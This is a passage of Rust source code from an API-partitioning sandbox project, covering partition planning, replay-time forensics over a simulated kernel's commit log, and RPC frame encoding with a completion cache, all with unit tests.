            let g = rng.gen_range(0..groups) as u32;
            // Group 0 stays in the canonical processing partition (id 1);
            // the rest take fresh ids 4, 5, ...
            let pid = if g == 0 {
                PartitionId(1)
            } else {
                PartitionId(3 + g)
            };
            plan.overrides.insert(api, pid);
        }
        plan.count = n_total;
        plan
    }

    /// Pins one API to a partition (manual sub-partitioning, §A.6).
    pub fn pin(&mut self, api: ApiId, partition: PartitionId) {
        self.overrides.insert(api, partition);
        self.count = self.count.max(partition.0 + 1);
    }

    /// The partition an API runs in.
    pub fn partition_of(&self, api: ApiId, api_type: ApiType) -> PartitionId {
        self.overrides
            .get(&api)
            .copied()
            .unwrap_or_else(|| self.base[&api_type])
    }

    /// The canonical partition of a type (ignoring overrides).
    pub fn partition_of_type(&self, api_type: ApiType) -> PartitionId {
        self.base[&api_type]
    }

    /// Number of partitions in the plan.
    pub fn partition_count(&self) -> u32 {
        self.count
    }

    /// All partition ids the plan can route to.
    pub fn partitions(&self) -> Vec<PartitionId> {
        let mut ids: Vec<PartitionId> = self.base.values().copied().collect();
        ids.extend(self.overrides.values().copied());
        ids.sort();
        ids.dedup();
        ids
    }

    /// Groups an API universe by assigned partition — the per-process
    /// API counts of Table 10.
    pub fn group(
        &self,
        universe: &[ApiId],
        type_of: impl Fn(ApiId) -> ApiType,
    ) -> BTreeMap<PartitionId, Vec<ApiId>> {
        let mut out: BTreeMap<PartitionId, Vec<ApiId>> = BTreeMap::new();
        for &api in universe {
            out.entry(self.partition_of(api, type_of(api)))
                .or_default()
                .push(api);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn four_plan_routes_by_type() {
        let plan = PartitionPlan::four();
        assert_eq!(plan.partition_count(), 4);
        let a = plan.partition_of(ApiId(0), ApiType::DataLoading);
        let b = plan.partition_of(ApiId(1), ApiType::Storing);
        assert_ne!(a, b);
        assert_eq!(plan.partition_of_type(ApiType::DataLoading), PartitionId(0));
    }

    #[test]
    fn single_plan_routes_everything_together() {
        let plan = PartitionPlan::single();
        for t in ApiType::ALL {
            assert_eq!(plan.partition_of(ApiId(7), t), PartitionId(0));
        }
    }

    #[test]
    fn per_api_plan_gives_unique_partitions() {
        let reg = standard_registry();
        let apis: Vec<ApiId> = reg.iter().take(10).map(|s| s.id).collect();
        let plan = PartitionPlan::per_api(apis.clone(), &reg);
        let mut seen = std::collections::BTreeSet::new();
        for &a in &apis {
            let p = plan.partition_of(a, reg.spec(a).declared_type);
            assert!(seen.insert(p), "duplicate partition {p}");
        }
        assert_eq!(plan.partition_count(), 14);
    }

    #[test]
    fn random_split_partitions_processing_only() {
        let reg = standard_registry();
        let universe: Vec<ApiId> = reg.iter().map(|s| s.id).collect();
        let plan = PartitionPlan::random_split(&reg, &universe, 8, 42);
        assert_eq!(plan.partition_count(), 8);
        // Loading APIs stay in partition 0.
        let imread = reg.id_of("cv2.imread").unwrap();
        assert_eq!(
            plan.partition_of(imread, ApiType::DataLoading),
            PartitionId(0)
        );
        // Processing APIs land in {1} ∪ {4..8}.
        let blur = reg.id_of("cv2.GaussianBlur").unwrap();
        let p = plan.partition_of(blur, ApiType::DataProcessing).0;
        assert!(p == 1 || (4..8).contains(&p), "partition {p}");
        // Deterministic per seed.
        let plan2 = PartitionPlan::random_split(&reg, &universe, 8, 42);
        assert_eq!(plan, plan2);
        let plan3 = PartitionPlan::random_split(&reg, &universe, 8, 43);
        assert_ne!(plan, plan3);
    }

    #[test]
    fn group_counts_match_assignment() {
        let reg = standard_registry();
        let universe: Vec<ApiId> = reg
            .of_framework(freepart_frameworks::Framework::OpenCv)
            .iter()
            .map(|s| s.id)
            .collect();
        let plan = PartitionPlan::four();
        let groups = plan.group(&universe, |id| reg.spec(id).declared_type);
        let total: usize = groups.values().map(Vec::len).sum();
        assert_eq!(total, universe.len());
        assert!(groups[&PartitionId(1)].len() >= 75, "processing dominates");
    }
}
