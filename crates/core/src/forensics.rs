//! Replay-time forensics over the kernel flight recorder.
//!
//! The commit log ([`CommitLog`]) records *what the kernel did*; the
//! [`Tracer`] records *why the runtime asked for it*. This module joins
//! the two: every `StateTransition` audit record carries the commit-log
//! index range its mprotect storm and temporal-grant sweep produced
//! (stamped by the call plane via
//! [`Tracer::record_audit_with_commits`]), which turns the flat log into
//! a sequence of **transition windows** — the quiescent points at which
//! the runtime's temporal-permission promises must hold.
//!
//! The rules here complement [`freepart_simos::replay::audit`], which
//! checks kernel-internal invariants a log must satisfy in isolation
//! (filter immutability, grant/revoke balance, page accounting). These
//! check *runtime* promises that need both halves of the story:
//!
//! - [`w_grant_discipline`] — at the end of every transition window
//!   (after the out-of-state grant sweep), each shared-memory segment
//!   has at most one writable grant: the object's current home. The
//!   host is exempt because the object store only ever issues it
//!   read-only views, but a temporal unlock (`ShmProtectAll` back to
//!   RW) legitimately widens the host's view along with the home's.
//! - [`journal_exactly_once`] — each completed call is journaled at
//!   most once; a duplicate journal entry would double-apply side
//!   effects on restart replay.
//! - [`crash_forensics`] — every involuntary death in the log, joined
//!   to its provenance chain ([`forensic_chain`]): which prior commits
//!   touched the entities the crash touched, walking grants, IPC
//!   frames, and payload writes backward to the offending source.
//!
//! [`Tracer::record_audit_with_commits`]: crate::trace::Tracer::record_audit_with_commits

use std::collections::BTreeMap;

use freepart_simos::replay::{apply_op, forensic_chain};
use freepart_simos::{CommitLog, CommitOp, FaultKind, Kernel, Pid, ProcessState, Syscall};

use crate::trace::{AuditRecord, SpanPhase, Tracer};

// ----------------------------------------------------------------------
// Transition windows
// ----------------------------------------------------------------------

/// One framework-state transition, joined to the slice of the kernel
/// commit log its mprotect storm and temporal-grant sweep produced.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TransitionWindow {
    /// Index of the `StateTransition` record in the tracer's audit log.
    pub audit_index: usize,
    /// Logical-call sequence number that drove the transition.
    pub seq: u64,
    /// Commit-log index range `[start, end)` covering the transition.
    pub commits: (u64, u64),
}

/// Joins every `StateTransition` audit record to its commit-log range.
///
/// Transitions recorded while the flight recorder was off carry no
/// range and are skipped — there is nothing to join.
pub fn transition_windows(tracer: &Tracer) -> Vec<TransitionWindow> {
    tracer
        .audit_log()
        .iter()
        .enumerate()
        .filter_map(|(i, rec)| match rec {
            AuditRecord::StateTransition { seq, .. } => {
                tracer
                    .audit_commit_range(i)
                    .map(|commits| TransitionWindow {
                        audit_index: i,
                        seq: *seq,
                        commits,
                    })
            }
            _ => None,
        })
        .collect()
}

// ----------------------------------------------------------------------
// Journal discipline
// ----------------------------------------------------------------------

/// Each completed call is journaled at most once.
///
/// The dispatcher journals a call's result into the completion cache
/// *before* the response leg, so a crash in the response window replays
/// the journal instead of re-executing side effects. A seq journaled
/// twice means the same side effects were applied twice — exactly the
/// bug the journal exists to prevent. Returns one message per violating
/// seq; empty means the discipline held.
pub fn journal_exactly_once(tracer: &Tracer) -> Vec<String> {
    let mut counts: BTreeMap<u64, u32> = BTreeMap::new();
    for ev in tracer.events() {
        if ev.phase == SpanPhase::Journal {
            *counts.entry(ev.seq).or_insert(0) += 1;
        }
    }
    counts
        .iter()
        .filter(|&(_, &n)| n > 1)
        .map(|(seq, n)| format!("call seq {seq} journaled {n} times (expected at most once)"))
        .collect()
}

// ----------------------------------------------------------------------
// Temporal-grant discipline
// ----------------------------------------------------------------------

/// At the end of every transition window, each shared-memory segment
/// has at most one writable grant among non-exempt processes.
///
/// Mid-window the invariant is allowed to wobble — delivering an object
/// to a new agent grants the consumer before the old home's grant is
/// swept — but `revoke_out_of_state_grants` runs *inside* the window,
/// so by the window's last commit the segment's writers must have
/// collapsed back to its single current home. `exempt` is the host pid:
/// its views are issued read-only, but a temporal unlock
/// (`ShmProtectAll` back to RW) widens every surviving grant, host
/// included, and that widening is by design.
///
/// Returns one message per `(window, segment)` violation; empty means
/// the discipline held across the whole trace.
pub fn w_grant_discipline(
    log: &CommitLog,
    windows: &[TransitionWindow],
    exempt: Pid,
) -> Vec<String> {
    use CommitOp as O;
    let mut violations = Vec::new();
    // segment raw id -> grantee raw pid -> writable?
    let mut grants: BTreeMap<u64, BTreeMap<u32, bool>> = BTreeMap::new();
    let mut ends: Vec<(u64, u64)> = windows.iter().map(|w| (w.commits.1, w.seq)).collect();
    ends.sort_unstable();
    ends.dedup();

    let check = |grants: &BTreeMap<u64, BTreeMap<u32, bool>>,
                 (end, seq): (u64, u64),
                 violations: &mut Vec<String>| {
        for (seg, holders) in grants {
            let writers: Vec<u32> = holders
                .iter()
                .filter(|&(&p, &w)| w && p != exempt.0)
                .map(|(&p, _)| p)
                .collect();
            if writers.len() > 1 {
                violations.push(format!(
                    "segment {seg}: {} concurrent writable grants (pids {writers:?}) \
                     at end of transition window for seq {seq} (commit {end})",
                    writers.len()
                ));
            }
        }
    };

    let mut next_end = 0usize;
    for rec in log.records() {
        while next_end < ends.len() && ends[next_end].0 <= rec.index {
            check(&grants, ends[next_end], &mut violations);
            next_end += 1;
        }
        let ok = rec.outcome.is_ok();
        match &rec.op {
            // Creation grants the owner a full RW view.
            O::ShmCreate { owner, .. } if ok => {
                grants
                    .entry(rec.outcome.raw())
                    .or_default()
                    .insert(owner.0, true);
            }
            O::ShmGrant { id, pid, perms } if ok => {
                grants
                    .entry(id.0)
                    .or_default()
                    .insert(pid.0, perms.writable());
            }
            O::ShmRevoke { id, pid } if ok && rec.outcome.raw() == 1 => {
                if let Some(holders) = grants.get_mut(&id.0) {
                    holders.remove(&pid.0);
                }
            }
            O::ShmProtectAll { id, perms } if ok => {
                if let Some(holders) = grants.get_mut(&id.0) {
                    for writable in holders.values_mut() {
                        *writable = perms.writable();
                    }
                }
            }
            O::ShmDestroy { id } => {
                grants.remove(&id.0);
            }
            // Reaping a dead process drops its table entries wholesale.
            O::Reap { pid } if ok => {
                for holders in grants.values_mut() {
                    holders.remove(&pid.0);
                }
            }
            _ => {}
        }
    }
    // Windows whose end sits at (or past) the log tail check final state.
    while next_end < ends.len() {
        check(&grants, ends[next_end], &mut violations);
        next_end += 1;
    }
    violations
}

// ----------------------------------------------------------------------
// Crash forensics
// ----------------------------------------------------------------------

/// One involuntary process death, joined to its provenance chain.
#[derive(Debug, Clone)]
pub struct CrashForensics {
    /// Index of the commit record whose application killed the process.
    pub commit_index: u64,
    /// The process that died.
    pub pid: Pid,
    /// Why it died.
    pub kind: FaultKind,
    /// Provenance chain from [`forensic_chain`]: log indices, most
    /// recent first, of every prior commit that touched the crash's
    /// tainted entities (the offending object's writes, grants, and
    /// transport frames). Always starts with `commit_index`.
    pub chain: Vec<u64>,
}

/// Walks the log through a shadow kernel and reports every commit whose
/// application crashed a process, each joined to its provenance chain.
///
/// Crashes are detected semantically — the acting process transitions
/// from running to [`ProcessState::Crashed`] — so this catches direct
/// fault injections (`DeliverFault`), filter kills and wild accesses
/// buried inside `Syscall` records, and protection faults raised by
/// `MemWrite`, without pattern-matching outcome summaries. Voluntary
/// exits and supervisor force-exits are not crashes and are skipped.
pub fn crash_forensics(log: &CommitLog) -> Vec<CrashForensics> {
    let mut shadow = Kernel::with_cost_model(log.genesis().clone());
    let mut out = Vec::new();
    for rec in log.records() {
        let acting = match &rec.op {
            // Exit is voluntary even though it flips the running bit.
            CommitOp::Syscall {
                call: Syscall::Exit { .. },
                ..
            } => None,
            op => op.acting_pid(),
        };
        let was_running = acting.is_some_and(|p| shadow.is_running(p));
        apply_op(&mut shadow, &rec.op);
        if let Some(pid) = acting {
            if was_running && !shadow.is_running(pid) {
                if let Ok(proc_) = shadow.process(pid) {
                    if let ProcessState::Crashed(fault) = &proc_.state {
                        out.push(CrashForensics {
                            commit_index: rec.index,
                            pid,
                            kind: fault.kind.clone(),
                            chain: forensic_chain(log, rec.index),
                        });
                    }
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::api::ApiType;
    use freepart_frameworks::ObjectId;
    use freepart_simos::{CommitRecord, CostModel, Perms, ShmId};

    use crate::state::FrameworkState;
    use crate::trace::SpanEvent;
    use crate::ThreadId;

    fn span(phase: SpanPhase, seq: u64) -> SpanEvent {
        SpanEvent {
            phase,
            seq,
            api: None,
            partition: None,
            thread: ThreadId::MAIN,
            start_ns: 0,
            end_ns: 1,
            bytes: 0,
        }
    }

    fn transition(seq: u64) -> AuditRecord {
        AuditRecord::StateTransition {
            at_ns: 0,
            thread: ThreadId::MAIN,
            seq,
            from: FrameworkState::Initialization,
            to: FrameworkState::InType(ApiType::DataLoading),
            objects_locked: 0,
            objects_unlocked: 0,
            pages: 0,
        }
    }

    #[test]
    fn windows_join_transitions_to_their_commit_ranges() {
        let mut t = Tracer::new();
        t.enable();
        t.record_audit_with_commits(transition(1), Some((0, 4)));
        // A non-transition record between windows must not shift joins.
        t.record_audit(AuditRecord::ShmGrant {
            at_ns: 0,
            object: ObjectId(7),
            segment: ShmId(1),
            pid: Pid(9),
            bytes: 64,
        });
        t.record_audit_with_commits(transition(2), Some((4, 9)));
        // Recorder off for this transition: no range, no window.
        t.record_audit(transition(3));

        let w = transition_windows(&t);
        assert_eq!(w.len(), 2);
        assert_eq!((w[0].audit_index, w[0].seq, w[0].commits), (0, 1, (0, 4)));
        assert_eq!((w[1].audit_index, w[1].seq, w[1].commits), (2, 2, (4, 9)));
    }

    #[test]
    fn journal_discipline_flags_only_duplicates() {
        let mut t = Tracer::new();
        t.enable();
        t.span(span(SpanPhase::Journal, 1));
        t.span(span(SpanPhase::Journal, 2));
        // Non-journal phases never count against the discipline.
        t.span(span(SpanPhase::Response, 2));
        assert!(journal_exactly_once(&t).is_empty());

        t.span(span(SpanPhase::Journal, 2));
        let v = journal_exactly_once(&t);
        assert_eq!(v.len(), 1);
        assert!(v[0].contains("seq 2"), "{v:?}");
    }

    /// Builds a log by running real kernel ops, then (optionally) lets
    /// the test splice in forged records via `from_parts`.
    fn grant_heavy_log() -> (CommitLog, Pid, Pid, Pid, ShmId) {
        let mut k = Kernel::new();
        k.enable_commit_log();
        let host = k.spawn("host");
        let a = k.spawn("agent-a");
        let b = k.spawn("agent-b");
        let seg = k.shm_create(a, vec![1; 4096]).unwrap();
        k.shm_grant(seg, host, Perms::R).unwrap();
        // Delivery to b: b granted RW, then a's stale grant swept
        // inside the transition window.
        k.shm_grant(seg, b, Perms::RW).unwrap();
        k.shm_revoke(seg, a).unwrap();
        (k.take_commit_log().unwrap(), host, a, b, seg)
    }

    #[test]
    fn single_writer_holds_once_the_sweep_lands_in_window() {
        let (log, host, ..) = grant_heavy_log();
        // Window covering the whole log: the sweep is inside it.
        let w = [TransitionWindow {
            audit_index: 0,
            seq: 1,
            commits: (0, log.len()),
        }];
        assert_eq!(w_grant_discipline(&log, &w, host), Vec::<String>::new());
    }

    #[test]
    fn two_writers_alive_at_a_window_end_are_flagged() {
        let (log, host, ..) = grant_heavy_log();
        // Forged window ending right after the second RW grant but
        // before the sweep: two writable grants coexist at that point.
        let grant_b = log
            .records()
            .iter()
            .filter(|r| matches!(r.op, CommitOp::ShmGrant { perms, .. } if perms.writable()))
            .map(|r| r.index)
            .next_back()
            .unwrap();
        let w = [TransitionWindow {
            audit_index: 0,
            seq: 1,
            commits: (0, grant_b + 1),
        }];
        let v = w_grant_discipline(&log, &w, host);
        assert_eq!(v.len(), 1, "{v:?}");
        assert!(v[0].contains("2 concurrent writable grants"), "{v:?}");
    }

    #[test]
    fn host_exemption_tolerates_temporal_unlock_widening() {
        let (log, host, _a, b, seg) = grant_heavy_log();
        // A temporal lock/unlock cycle: protect_all(R) then back to RW
        // widens both surviving grants (home b and the host view).
        let mut k = Kernel::with_cost_model(log.genesis().clone());
        let records = log.records().to_vec();
        for r in &records {
            apply_op(&mut k, &r.op);
        }
        let mut recs = records;
        for op in [
            CommitOp::ShmProtectAll {
                id: seg,
                perms: Perms::R,
            },
            CommitOp::ShmProtectAll {
                id: seg,
                perms: Perms::RW,
            },
        ] {
            let outcome = apply_op(&mut k, &op);
            recs.push(CommitRecord {
                index: 0,
                op,
                outcome,
                digest: k.state_digest(),
            });
        }
        let log = CommitLog::from_parts(CostModel::default(), recs);
        let w = [TransitionWindow {
            audit_index: 0,
            seq: 1,
            commits: (0, log.len()),
        }];
        // With the host exempt only home `b` writes: clean. Without the
        // exemption the widened host view trips the rule — proving the
        // check actually sees the post-unlock grant table.
        assert_eq!(w_grant_discipline(&log, &w, host), Vec::<String>::new());
        let v = w_grant_discipline(&log, &w, Pid(u32::MAX));
        assert_eq!(v.len(), 1, "{v:?}");
        let _ = b;
    }

    #[test]
    fn crash_forensics_chains_a_fault_to_its_provenance() {
        let mut k = Kernel::new();
        k.enable_commit_log();
        let host = k.spawn("host");
        let agent = k.spawn("agent");
        let seg = k.shm_create(host, vec![0; 4096]).unwrap();
        k.shm_grant(seg, agent, Perms::R).unwrap();
        k.shm_map(agent, seg).unwrap();
        // Unrelated noise that must stay out of the chain.
        let other = k.spawn("bystander");
        k.fs_put("/noise", vec![1, 2, 3]);
        // The agent dies touching the segment's pages.
        k.deliver_fault(agent, FaultKind::Protection, None);
        // A voluntary supervisor exit must not report as a crash.
        k.force_exit(other, 0);
        let log = k.take_commit_log().unwrap();

        let crashes = crash_forensics(&log);
        assert_eq!(crashes.len(), 1, "{crashes:?}");
        let c = &crashes[0];
        assert_eq!(c.pid, agent);
        assert_eq!(c.kind, FaultKind::Protection);
        assert_eq!(c.chain[0], c.commit_index);
        // The chain reaches back through the grant to the agent's spawn,
        // but never picks up the bystander or the fs noise.
        assert!(c.chain.len() >= 3, "{:?}", c.chain);
        for idx in &c.chain {
            let op = &log.records()[*idx as usize].op;
            assert!(
                !matches!(op, CommitOp::FsPut { .. }),
                "noise in chain: {op:?}"
            );
        }
    }
}
