//! RPC framing between the host and agent processes (paper §4.3).
//!
//! The hooked API interface marshals `(sequence, api id, args)` into a
//! frame sent over the shared-memory ring; the agent answers with
//! `(sequence, result)`. Objects travel as 16-byte references; their
//! payload movement is the Lazy-Data-Copy policy's job, not the frame's.
//!
//! Sequence numbers give the **exactly-once** guarantee for healthy
//! agents (duplicate deliveries are answered from a completion cache
//! without re-execution) and the **at-least-once** fallback across
//! restarts (an unacknowledged request is re-sent to the respawned
//! agent and re-executed).

use freepart_frameworks::api::ApiId;
use freepart_frameworks::Value;
use std::collections::BTreeMap;

/// A marshalled API-call request.
#[derive(Debug, Clone, PartialEq)]
pub struct Request {
    /// Monotone per-runtime sequence number.
    pub seq: u64,
    /// Which API to execute.
    pub api: ApiId,
    /// Arguments (objects by reference).
    pub args: Vec<Value>,
}

/// Frame magic distinguishing request frames from stray ring bytes.
const REQ_MAGIC: u16 = 0xF9A1;
/// Frame magic for response frames.
const RESP_MAGIC: u16 = 0xF9A2;

impl Request {
    /// Appends the binary frame to `out` without intermediate
    /// allocations: `[magic][seq][api][argc][tag-prefixed args...]`.
    /// Callers on the hot path keep one scratch buffer and `clear()` it
    /// between calls.
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(&REQ_MAGIC.to_le_bytes());
        out.extend_from_slice(&self.seq.to_le_bytes());
        out.extend_from_slice(&self.api.0.to_le_bytes());
        out.extend_from_slice(&(self.args.len() as u32).to_le_bytes());
        for arg in &self.args {
            arg.encode_into(out);
        }
    }

    /// Serialized wire bytes (fresh buffer convenience).
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.wire_size() as usize);
        self.encode_into(&mut out);
        out
    }

    /// Decodes wire bytes.
    ///
    /// # Errors
    ///
    /// Returns `None` on malformed frames.
    pub fn decode(bytes: &[u8]) -> Option<Request> {
        let magic = u16::from_le_bytes(bytes.get(0..2)?.try_into().ok()?);
        if magic != REQ_MAGIC {
            return None;
        }
        let seq = u64::from_le_bytes(bytes.get(2..10)?.try_into().ok()?);
        let api = ApiId(u16::from_le_bytes(bytes.get(10..12)?.try_into().ok()?));
        let argc = u32::from_le_bytes(bytes.get(12..16)?.try_into().ok()?) as usize;
        let mut pos = 16;
        let mut args = Vec::with_capacity(argc.min(64));
        for _ in 0..argc {
            args.push(Value::decode_from(bytes, &mut pos)?);
        }
        if pos != bytes.len() {
            return None;
        }
        Some(Request { seq, api, args })
    }

    /// Wire size used for cost accounting: header + per-arg sizes
    /// (object payloads excluded — they are moved by the data plane).
    pub fn wire_size(&self) -> u64 {
        16 + self.args.iter().map(Value::wire_size).sum::<u64>()
    }
}

/// A marshalled API-call response.
#[derive(Debug, Clone, PartialEq)]
pub struct Response {
    /// Echoed sequence number.
    pub seq: u64,
    /// The API's return value (objects by reference).
    pub result: Value,
}

impl Response {
    /// Appends the binary frame to `out`: `[magic][seq][result]`.
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(&RESP_MAGIC.to_le_bytes());
        out.extend_from_slice(&self.seq.to_le_bytes());
        self.result.encode_into(out);
    }

    /// Serialized wire bytes (fresh buffer convenience).
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.wire_size() as usize);
        self.encode_into(&mut out);
        out
    }

    /// Decodes wire bytes.
    pub fn decode(bytes: &[u8]) -> Option<Response> {
        let magic = u16::from_le_bytes(bytes.get(0..2)?.try_into().ok()?);
        if magic != RESP_MAGIC {
            return None;
        }
        let seq = u64::from_le_bytes(bytes.get(2..10)?.try_into().ok()?);
        let mut pos = 10;
        let result = Value::decode_from(bytes, &mut pos)?;
        if pos != bytes.len() {
            return None;
        }
        Some(Response { seq, result })
    }

    /// Wire size for cost accounting.
    pub fn wire_size(&self) -> u64 {
        16 + self.result.wire_size()
    }
}

/// Frame magic for batched request frames (N member requests in one
/// IPC message).
const BATCH_REQ_MAGIC: u16 = 0xF9A3;
/// Frame magic for batched response frames.
const BATCH_RESP_MAGIC: u16 = 0xF9A4;

/// Shared encoding for both batch frame directions:
/// `[magic][u32 count][(u32 len + member frame)...]`. Member frames are
/// ordinary [`Request`]/[`Response`] wire bytes, so the agent decodes
/// each with the existing single-frame path and replay/journaling see no
/// difference between a batched and an unbatched delivery.
fn encode_batch(magic: u16, members: &[Vec<u8>]) -> Vec<u8> {
    let body: usize = members.iter().map(|m| 4 + m.len()).sum();
    let mut out = Vec::with_capacity(6 + body);
    out.extend_from_slice(&magic.to_le_bytes());
    out.extend_from_slice(&(members.len() as u32).to_le_bytes());
    for m in members {
        out.extend_from_slice(&(m.len() as u32).to_le_bytes());
        out.extend_from_slice(m);
    }
    out
}

/// Shared decoding: returns the member frames, rejecting wrong magics,
/// truncation, and trailing garbage.
fn decode_batch(magic: u16, bytes: &[u8]) -> Option<Vec<Vec<u8>>> {
    let got = u16::from_le_bytes(bytes.get(0..2)?.try_into().ok()?);
    if got != magic {
        return None;
    }
    let count = u32::from_le_bytes(bytes.get(2..6)?.try_into().ok()?) as usize;
    let mut pos = 6;
    let mut members = Vec::with_capacity(count.min(64));
    for _ in 0..count {
        let len = u32::from_le_bytes(bytes.get(pos..pos + 4)?.try_into().ok()?) as usize;
        pos += 4;
        members.push(bytes.get(pos..pos + len)?.to_vec());
        pos += len;
    }
    if pos != bytes.len() {
        return None;
    }
    Some(members)
}

/// One IPC frame carrying N marshalled [`Request`]s bound for the same
/// partition. The batch amortizes the per-frame send/recv latency; each
/// member keeps its own `seq`, so exactly-once replay and crash-mid-batch
/// recovery work per call, not per frame.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BatchRequest {
    /// Member request frames, in submission order.
    pub members: Vec<Vec<u8>>,
}

impl BatchRequest {
    /// Serialized wire bytes.
    pub fn encode(&self) -> Vec<u8> {
        encode_batch(BATCH_REQ_MAGIC, &self.members)
    }

    /// Decodes wire bytes; `None` on malformed frames.
    pub fn decode(bytes: &[u8]) -> Option<BatchRequest> {
        Some(BatchRequest {
            members: decode_batch(BATCH_REQ_MAGIC, bytes)?,
        })
    }
}

/// The answering frame: N marshalled [`Response`]s, one per member of
/// the [`BatchRequest`], in the same order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BatchResponse {
    /// Member response frames, in request order.
    pub members: Vec<Vec<u8>>,
}

impl BatchResponse {
    /// Serialized wire bytes.
    pub fn encode(&self) -> Vec<u8> {
        encode_batch(BATCH_RESP_MAGIC, &self.members)
    }

    /// Decodes wire bytes; `None` on malformed frames.
    pub fn decode(bytes: &[u8]) -> Option<BatchResponse> {
        Some(BatchResponse {
            members: decode_batch(BATCH_RESP_MAGIC, bytes)?,
        })
    }
}

/// Agent-side completion cache implementing exactly-once delivery.
///
/// Entries live until the host acknowledges their sequence number
/// ([`CompletionCache::ack`]) — once the host has consumed a response
/// it will never re-send that seq, so the journal entry is dead weight.
/// Pruning below the ack watermark keeps long video/training loops at
/// O(in-flight window) journal memory instead of O(run length). The
/// `capacity` bound remains as a backstop for hosts that never ack.
#[derive(Debug, Default)]
pub struct CompletionCache {
    done: BTreeMap<u64, Value>,
    /// Pooled mode: which tenant's call produced each journal entry.
    /// Pruned in lockstep with `done`.
    tenants: BTreeMap<u64, u32>,
    capacity: usize,
    /// Highest sequence number the host has acknowledged consuming.
    acked: u64,
}

impl CompletionCache {
    /// A cache remembering up to `capacity` completions.
    pub fn new(capacity: usize) -> CompletionCache {
        CompletionCache {
            done: BTreeMap::new(),
            tenants: BTreeMap::new(),
            capacity,
            acked: 0,
        }
    }

    /// Looks up a previously-completed sequence (duplicate delivery).
    pub fn replay(&self, seq: u64) -> Option<&Value> {
        self.done.get(&seq)
    }

    /// Records a completion, evicting the oldest entries past capacity.
    pub fn complete(&mut self, seq: u64, result: Value) {
        self.complete_tagged(seq, result, None);
    }

    /// Records a completion attributed to a tenant (pooled mode): the
    /// shared agent's journal stays partitioned by tenant, so restart
    /// recovery can prove each tenant's calls replayed exactly once.
    pub fn complete_tagged(&mut self, seq: u64, result: Value, tenant: Option<u32>) {
        self.done.insert(seq, result);
        if let Some(t) = tenant {
            self.tenants.insert(seq, t);
        }
        while self.done.len() > self.capacity {
            let oldest = *self.done.keys().next().expect("non-empty");
            self.done.remove(&oldest);
            self.tenants.remove(&oldest);
        }
    }

    /// The tenant a journaled completion belongs to, when tagged.
    pub fn tenant_of(&self, seq: u64) -> Option<u32> {
        self.tenants.get(&seq).copied()
    }

    /// Journal sequence numbers currently held for one tenant.
    pub fn tenant_entries(&self, tenant: u32) -> Vec<u64> {
        self.tenants
            .iter()
            .filter(|(_, t)| **t == tenant)
            .map(|(s, _)| *s)
            .collect()
    }

    /// Acknowledges that the host consumed the response for `seq`:
    /// every journal entry at or below the watermark is pruned. Acks
    /// arrive in seq order per partition (FIFO rings), so the watermark
    /// only moves forward.
    pub fn ack(&mut self, seq: u64) {
        if seq <= self.acked {
            return;
        }
        self.acked = seq;
        // split_off keeps entries > seq; everything at or below is dead.
        self.done = self.done.split_off(&(seq + 1));
        self.tenants = self.tenants.split_off(&(seq + 1));
    }

    /// The highest acknowledged sequence number.
    pub fn acked_watermark(&self) -> u64 {
        self.acked
    }

    /// Number of cached completions.
    pub fn len(&self) -> usize {
        self.done.len()
    }

    /// True when nothing is cached.
    pub fn is_empty(&self) -> bool {
        self.done.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::ObjectId;

    #[test]
    fn request_roundtrip() {
        let req = Request {
            seq: 42,
            api: ApiId(7),
            args: vec![Value::from("path"), Value::Obj(ObjectId(3))],
        };
        let back = Request::decode(&req.encode()).unwrap();
        assert_eq!(back, req);
        assert!(Request::decode(b"garbage").is_none());
    }

    #[test]
    fn response_roundtrip() {
        let resp = Response {
            seq: 42,
            result: Value::Rects(vec![]),
        };
        assert_eq!(Response::decode(&resp.encode()).unwrap(), resp);
    }

    #[test]
    fn frames_are_magic_tagged_and_length_checked() {
        let req = Request {
            seq: 9,
            api: ApiId(2),
            args: vec![Value::I64(5)],
        };
        let resp = Response {
            seq: 9,
            result: Value::Unit,
        };
        // A request frame is not a response frame and vice versa.
        assert!(Response::decode(&req.encode()).is_none());
        assert!(Request::decode(&resp.encode()).is_none());
        // Trailing garbage is rejected, not silently ignored.
        let mut padded = req.encode();
        padded.push(0);
        assert!(Request::decode(&padded).is_none());
        // encode_into appends to an existing scratch buffer.
        let mut scratch = Vec::new();
        req.encode_into(&mut scratch);
        let first_len = scratch.len();
        scratch.clear();
        req.encode_into(&mut scratch);
        assert_eq!(scratch.len(), first_len);
        assert_eq!(Request::decode(&scratch).unwrap(), req);
    }

    #[test]
    fn wire_size_counts_references_not_payloads() {
        let small = Request {
            seq: 1,
            api: ApiId(0),
            args: vec![Value::Obj(ObjectId(1))],
        };
        // 16-byte header + 16-byte reference, regardless of object size.
        assert_eq!(small.wire_size(), 32);
        let bytes = Request {
            seq: 1,
            api: ApiId(0),
            args: vec![Value::Bytes(vec![0; 1000])],
        };
        assert!(bytes.wire_size() > 1000);
    }

    #[test]
    fn batch_frames_roundtrip() {
        let reqs: Vec<Vec<u8>> = (0..3)
            .map(|i| {
                Request {
                    seq: 10 + i,
                    api: ApiId(i as u16),
                    args: vec![Value::I64(i as i64)],
                }
                .encode()
            })
            .collect();
        let batch = BatchRequest {
            members: reqs.clone(),
        };
        let back = BatchRequest::decode(&batch.encode()).unwrap();
        assert_eq!(back, batch);
        // Members decode with the ordinary single-frame path.
        for (i, m) in back.members.iter().enumerate() {
            assert_eq!(Request::decode(m).unwrap().seq, 10 + i as u64);
        }
        // Empty batches are representable (never sent, but well-formed).
        let empty = BatchResponse { members: vec![] };
        assert_eq!(BatchResponse::decode(&empty.encode()).unwrap(), empty);
    }

    #[test]
    fn batch_frames_reject_confusion_and_truncation() {
        let breq = BatchRequest {
            members: vec![Request {
                seq: 1,
                api: ApiId(0),
                args: vec![],
            }
            .encode()],
        };
        let bresp = BatchResponse {
            members: vec![Response {
                seq: 1,
                result: Value::Unit,
